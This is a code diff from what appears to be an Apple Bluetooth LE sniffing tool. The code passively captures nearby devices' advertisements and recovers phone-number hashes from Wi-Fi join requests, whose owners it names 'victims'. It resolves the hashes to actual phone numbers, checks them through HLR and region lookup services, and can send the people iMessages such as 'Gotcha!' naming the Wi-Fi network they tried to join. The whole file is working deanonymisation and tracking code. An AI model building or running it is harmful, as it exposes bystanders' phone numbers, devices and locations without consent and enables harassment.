+            self.resolved_macs.add(mac)
+
+    # message type -> parser, in the order the messages are applied (Nearby first, see read_packet)
+
+    # ---- phone numbers (hash2phone, HLR, region, iMessage) -------------------
+
+    def get_phone_db(self, hashp):
+        if self.phone_db is None:
+            self.phone_db = open_phone_db(self.hash2phone_db)
+        phones = self.phone_db.lookup(hashp)
+        if not phones:
+            print("No phone number found for hash '%s'" % hashp)
+        return [str(i) for i in phones]
+
+    def enrich_victim(self, mac, phone_hash, ssid_hash):
+        """
+        Look up the phone numbers of a Wi-Fi join request in the background
+        and fill hash2phone[mac]['phone_info'].
+        """
+        if self.enricher is None:
+            self.enricher = PhoneEnricher(hash2phone_url=self.hash2phone_url, hlr_api_url=self.hlr_api_url,
+                                          region_check_url=self.region_check_url, imessage_url=self.imessage_url,
+                                          proxies=self.proxies, verify=self.verify)
+        return self.enricher.submit(self._enrich_victim(self.hash2phone[mac]['phone_info'], phone_hash, ssid_hash))
+
+    async def _enrich_victim(self, info, phone_hash, ssid_hash):
+        enricher = self.enricher
+        if self.hash2phone_url:
+            phones = await enricher.candidates(phone_hash)
+        else:
+            phones = await enricher.run_in_executor(self.get_phone_db, phone_hash)
+        for phone in phones:
+            info[phone] = {'phone': phone, 'name': '', 'carrier': '', 'region': '', 'status': '', 'iMessage': ''}
+        if not phones:
+            return
+
+        jobs = []
+        if self.check_hlr:
+            jobs.append(self._enrich_hlr(info))
+        if self.check_region:
+            jobs.extend(self._enrich_region(info, phone) for phone in phones)
+        await asyncio.gather(*jobs, return_exceptions=True)
+        if self.message:
+            await self.send_to_victims(info, ssid_hash)
+
+    async def _enrich_hlr(self, info):
+        status = await self.enricher.hlr_status(list(info))
+        for phone, value in status.items():
+            if phone in info:
+                info[phone]['status'] = value
+
+    async def _enrich_region(self, info, phone):
+        info[phone]['region'] = await self.enricher.region(phone)
+
+    async def send_to_victims(self, info, SSID_hash):
+        text = ''
+        ssid = get_dict_val(self.dictOfss, SSID_hash)
+        for phone in list(info):
+            name = info[phone]['name']
+            if name and ssid:
+                text = 'Hi {}! Looks like you have tried to connect to WiFi:{}'.format(name, ssid)
+            elif name:
+                text = 'Hi {}! Gotcha!'.format(name)
+            elif ssid:
+                text = 'Looks like you have tried to connect to WiFi:{}'.format(ssid)
+            else:
+                text = 'Gotcha!'
+            if self.check_hlr and info[phone]['status'] != 'Live':
+                continue
+            # spacing between messages is the imessage endpoint rate limit
+            try:
+                info[phone]['iMessage'] = await self.enricher.send_imessage(phone, text)
+            except Exception as e:
+                print('iMessage to {} failed: {!r}'.format(phone, e))
+
+    def get_ssids(self):
+        proc = subprocess.Popen(['ip', 'link', 'set', self.iwdev, 'up'], stdout=subprocess.PIPE,
+                                stderr=subprocess.PIPE)
+        stdout, stderr = proc.communicate()
+        kill = lambda process: process.kill()
+        cmd = ['iwlist', self.iwdev, 'scan']
+        proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+        timer = Timer(3, kill, [proc])
+        try:
+            timer.start()
+            ssids, stderr = proc.communicate()
+        finally:
+            timer.cancel()
+        if ssids:
+            result = re.findall('ESSID:"(.*)"\n', str(ssids, 'utf-8'))
+            self.dictOfss.add(set(result))
+            self.dictOfss.flush()
+
+    # ---- device names (GATT Model Number, like gatttool --char-read --uuid=0x2a24) ----
+
+    def start_name_resolver(self, workers=2):
+        if self.name_resolver is None:
+            self.name_resolver = GattNameResolver(on_resolved=self._set_dev_name, on_idle=self._rescan,
+                                                  workers=workers, hci='hci%d' % self.dev_id)
+        self.name_resolver.start()
+        return self.name_resolver
+
+    def resolve_dev_name(self, mac, force=False):
+        """Queue a name lookup for mac; returns at once, the row is updated when it is resolved."""
+        resolver = self.start_name_resolver()
+        name = resolver.submit(mac, self.fingerprints.get(mac), force=force)
+        if name:
+            self._set_dev_name(mac, name)
+
+    def resolve_dev_names(self):
+        for mac, row in self.phones.items():
+            if row['device'] in ('MacBook', 'iPhone') and mac not in self.resolved_devs:
+                self.resolve_dev_name(mac)
+
+    def _set_dev_name(self, mac, model):
+        self.resolved_devs.add(mac)
+        if mac in self.phones:
+            self.phones[mac]['device'] = devices_models.get(model, model)
+
+    def _rescan(self):
+        # connecting to a device may stop the LE scan
+        if self._adapter is not None:
+            self._adapter.resume_scan()
+        elif self.sock is not None:
+            try:
+                _bluetooth_utils().enable_le_scan(self.sock, filter_duplicates=False)
+            except Exception as e:
+                print('Cannot re-enable LE scan: %r' % (e,))
+
+    # ---- blocking sniffing (command line / TUI) ------------------------------
+
+    def init_bluez(self):
+        """Open hci<dev_id> (once) and (re)enable LE scanning."""
+        import bluetooth._bluetooth as bluez
+        bt = _bluetooth_utils()
+        if self.sock is None:
+            bt.toggle_device(self.dev_id, True)
+            try:
+                self.sock = bluez.hci_open_dev(self.dev_id)
+            except:
+                print("Cannot open bluetooth device %i" % self.dev_id)
+                raise
+        bt.enable_le_scan(self.sock, filter_duplicates=False)
+
+    def sniff(self, handler=None, stop_event=None):
+        """Blocking read loop; call init_bluez() first."""
+        bt = _bluetooth_utils()
+        bt.parse_le_advertising_events(self.sock, handler=handler or self.le_advertise_packet_handler,
+                                       debug=False, stop_event=stop_event)
+
+    # ---- asyncio engine (FastAPI) ---------------------------------------------
+
+    @property
+    def is_running(self):
+        return self._adapter is not None
+
+    async def start(self, publish_interval=0.5):
+        """
+        Start sniffing on the running event loop (no extra thread) and
+        publish device deltas every publish_interval seconds. The scan is
+        shared through the hci<dev_id> HCIAdapter, so other scanners and
+        advertisers of the app keep running.
+        """
+        if self._adapter is not None:
+            return
+        from .utils.hci_adapter import get_adapter
+        adapter = get_adapter(self.dev_id)
+        adapter.add_scan_handler(self.le_advertise_packet_handler)
+        self._adapter = adapter
+        # deltas are relative to what subscribers got in their snapshot
+        self.phones.pop_changes()
+        self._publisher = asyncio.ensure_future(self._publish_loop(publish_interval))
+
+    def stop(self):
+        """Stop sniffing; subscribers receive None and finish."""
+        if self._publisher is not None:
+            self._publisher.cancel()
+            self._publisher = None
+        if self._adapter is not None:
+            self._adapter.remove_scan_handler(self.le_advertise_packet_handler)
+            self._adapter = None
+        if self.name_resolver is not None:
+            self.name_resolver.stop()
+        if self.enricher is not None:
+            self.enricher.stop()
+            self.enricher = None
+        self.close()
+        for queue in list(self._queues):
+            self._put(queue, None)
+
+    def close(self):
+        if self.sock is not None:
+            try:
+                _bluetooth_utils().disable_le_scan(self.sock)
+                self.sock.close()
+            except Exception:
+                pass
+            self.sock = None
+
+    def subscribe(self, maxsize=64):
+        """
+        Queue receiving {'seq', 'changed', 'removed'} deltas (None when stopped).
+        A consumer that falls behind gets a {'seq', 'devices'} snapshot instead.
+        """
+        queue = asyncio.Queue(maxsize)
+        self._queues.append(queue)
+        return queue
+
+    def unsubscribe(self, queue):
+        if queue in self._queues:
+            self._queues.remove(queue)
+
+    def _put(self, queue, item):
+        if queue.full():
+            # slow consumer: dropping a delta would lose its removals for good,
+            # so replace the backlog with a full snapshot to resync from
+            while not queue.empty():
+                queue.get_nowait()
+            if item is not None:
+                item = {'seq': self.seq, 'devices': self.snapshot()}
+        queue.put_nowait(item)
+
+    def poll_changes(self):
+        """Expire devices and return the delta since the previous call, or None."""
+        self.clear_zombies()
+        changed, removed = self.phones.pop_changes()
+        if not changed and not removed:
+            return None
+        self.seq += 1
+        return {
+            'seq': self.seq,
+            'changed': [dict(row, mac=mac) for mac, row in changed.items()],
+            'removed': sorted(removed),
+        }
+
+    async def _publish_loop(self, interval):
+        while True:
+            await asyncio.sleep(interval)
+            if self.active:
+                self.resolve_dev_names()
+            delta = self.poll_changes()
+            if delta is not None:
+                for queue in list(self._queues):
+                    self._put(queue, delta)